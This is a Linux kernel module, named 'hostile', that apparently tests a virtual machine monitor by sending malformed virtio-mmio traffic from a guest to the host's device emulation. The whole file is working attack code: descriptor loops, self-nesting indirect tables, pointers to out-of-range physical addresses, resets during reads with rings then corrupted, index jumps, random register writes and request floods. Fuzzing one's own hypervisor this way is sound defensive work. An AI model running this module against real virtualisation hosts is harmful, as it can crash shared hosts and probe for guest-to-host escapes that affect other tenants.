/* What a guest's kernel can do to the host by its virtio-mmio devices. `what=` says which; the device's own driver is not asked.
 * slot: of the register pages, or -1 for all but the agent's; queue: of that device; count: how often. A line on the console
 * tells of the end. */
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/module.h>
#include <linux/random.h>
#include <linux/string.h>

MODULE_LICENSE("GPL");

static char *what = "";
module_param(what, charp, 0);
static int slot, queue, count = 100;
module_param(slot, int, 0);
module_param(queue, int, 0);
module_param(count, int, 0);
static char *bytes = "ff"; /* of a flood, in hexadecimal */
module_param(bytes, charp, 0);

enum { PAGE = 4096, SLOTS = 19, RING = 16, DATA_ORDER = 5, F_NEXT = 1, F_WRITE = 2, F_INDIRECT = 4 };
#define FIRST 0xd0000000ul
enum {
    DRIVER_FEATURES = 0x20, DRIVER_SELECT = 0x24, SELECT = 0x30, NUMBER = 0x38, READY = 0x44, NOTIFY = 0x50, STATUS = 0x70,
    DESCRIPTORS = 0x80, AVAILABLE = 0x90, USED = 0xa0,
};

struct descriptor { u64 address; u32 length; u16 flags, next; };
struct ring {
    struct descriptor table[RING];
    struct { u16 flags, index, ring[RING]; } available;
    u8 gap[512];
    struct { u16 flags, index; struct { u32 id, length; } ring[RING]; } used;
};

static void __iomem *page;
static struct ring *ring;
static u8 *data;

static void put(u32 offset, u32 value) { writel(value, page + offset); }

static void put_address(u32 offset, u64 address) {
    put(offset, (u32)address);
    put(offset + 4, (u32)(address >> 32));
}

static void start(u64 rings) {
    int i;
    put(STATUS, 0);
    put(STATUS, 3);
    put(DRIVER_SELECT, 0);
    put(DRIVER_FEATURES, 1u << 28); /* indirect descriptors */
    put(DRIVER_SELECT, 1);
    put(DRIVER_FEATURES, 1); /* version 1 */
    put(STATUS, 11);
    for (i = 0; i <= queue; i++) { /* the others have their place, too: nothing is ever in them */
        put(SELECT, i);
        put(NUMBER, RING);
        put_address(DESCRIPTORS, rings);
        put_address(AVAILABLE, rings + offsetof(struct ring, available));
        put_address(USED, rings + offsetof(struct ring, used));
        put(READY, 1);
    }
    put(STATUS, 15);
}

static void offer(u16 head) {
    ring->available.ring[ring->available.index % RING] = head;
    wmb();
    ring->available.index++;
    wmb();
}

static void describe(int i, u64 address, u32 length, u16 flags, u16 next) {
    ring->table[i] = (struct descriptor){address, length, flags, next};
}

static void fresh(void) {
    put(STATUS, 0);
    memset(ring, 0, sizeof(*ring));
    start(virt_to_phys(ring));
}

static void kick(void) {
    put(NOTIFY, queue);
    usleep_range(1000, 2000);
}

static void loops(void) {
    u64 at = virt_to_phys(data);
    struct descriptor *table = (void *)data;
    fresh();
    describe(0, at, 4096, F_NEXT, 1);
    describe(1, at, 4096, F_NEXT, 0);
    offer(0);
    kick();
    fresh();
    describe(0, at, 4096, F_INDIRECT, 0);
    table[0] = (struct descriptor){at, 64, F_NEXT, 0}; /* itself */
    offer(0);
    kick();
    fresh();
    table[0] = (struct descriptor){at, 64, F_INDIRECT, 0}; /* a table in a table */
    describe(0, at, 16, F_INDIRECT, 0);
    offer(0);
    kick();
    fresh();
    describe(0, at, 16, F_NEXT, 40000);
    offer(0);
    offer(65000);
    kick();
}

static void outside(void) {
    static const u64 places[] = {0xc0000000, 0xd0000000, 0xfee00000, 0xfffffffffffff000, 0x7fffffffffffffff, 1ull << 46};
    int i;
    for (i = 0; i < ARRAY_SIZE(places); i++) {
        fresh();
        describe(0, places[i], 4096, F_WRITE, 0);
        offer(0);
        kick();
        fresh();
        describe(0, virt_to_phys(data), 0xffffffff, i % 2 ? F_WRITE : 0, 0);
        offer(0);
        kick();
        fresh();
        describe(0, places[i], 4096, F_INDIRECT, 0);
        offer(0);
        kick();
        start(places[i]); /* the rings themselves */
        kick();
    }
}

/* Reads of a disk (or whatever the device takes for them) that are under way when it is reset, and its rings are something else. */
static void resets(void) {
    int i;
    memset(data, 0, 16);
    fresh();
    for (i = 0; i + 1 < RING; i += 2) {
        describe(i, virt_to_phys(data), 16, F_NEXT, i + 1);
        describe(i + 1, virt_to_phys(data) + PAGE, (PAGE << DATA_ORDER) - PAGE, F_WRITE, 0);
        offer(i);
    }
    put(NOTIFY, queue);
    if (get_random_u32() % 2)
        udelay(get_random_u32() % 500);
    put(STATUS, 0);
    memset(ring, 0xff, sizeof(*ring));
}

static void jumps(void) {
    fresh();
    ring->available.index = 40000;
    kick();
    fresh();
    describe(0, virt_to_phys(data), 4096, F_WRITE, 0);
    offer(0);
    kick();
    ring->available.index += 17;
    kick();
    put(READY, 0);
    kick();
}

/* Every register of every slot, with anything. */
static void registers(void) {
    int i, at;
    for (at = 1; at < SLOTS; at++) {
        void __iomem *other = ioremap(FIRST + at * PAGE, PAGE);
        for (i = 0; other && i < 40; i++)
            writel(get_random_u32() & (i % 2 ? ~0u : 15), other + (get_random_u32() % 0x108 & ~3));
        iounmap(other);
    }
}

static void flood(size_t length) {
    int i, sent;
    fresh();
    for (i = 0; i < RING; i++)
        describe(i, virt_to_phys(data), length, 0, 0);
    for (sent = 0; sent < count; sent++) {
        offer(sent % RING);
        put(NOTIFY, queue);
        for (i = 0; i < 10000 && (u16)(ring->available.index - READ_ONCE(ring->used.index)) >= RING; i++)
            usleep_range(200, 500);
    }
}

static size_t fill(void) {
    size_t size = strlen(bytes) / 2, at;
    if (!size || hex2bin(data, bytes, size) < 0)
        return 0;
    for (at = size; at + size <= PAGE << DATA_ORDER; at += size)
        memcpy(data + at, data, size);
    return at;
}

static int attack(void) {
    int i;
    if (strcmp(what, "flood") == 0) {
        flood(fill());
        return 0;
    }
    for (i = 0; i < count; i++) {
        if (strcmp(what, "loops") == 0)
            loops();
        else if (strcmp(what, "outside") == 0)
            outside();
        else if (strcmp(what, "resets") == 0)
            resets();
        else if (strcmp(what, "jumps") == 0)
            jumps();
        else if (strcmp(what, "registers") == 0)
            registers();
        else
            return -EINVAL;
    }
    return 0;
}

static int __init hostile_init(void) {
    int from = slot < 0 ? SLOTS - 1 : slot, to = slot < 0 ? 1 : slot, result = 0;
    ring = (void *)get_zeroed_page(GFP_KERNEL);
    data = (void *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, DATA_ORDER);
    if (!ring || !data)
        return -ENOMEM;
    for (; from >= to && result == 0; from--) {
        page = ioremap(FIRST + from * PAGE, PAGE);
        if (!page)
            return -ENOMEM;
        result = attack();
        iounmap(page);
    }
    pr_emerg("hostile: %s done\n", what);
    return result; /* pages that a device may still write are not given back */
}

module_init(hostile_init);
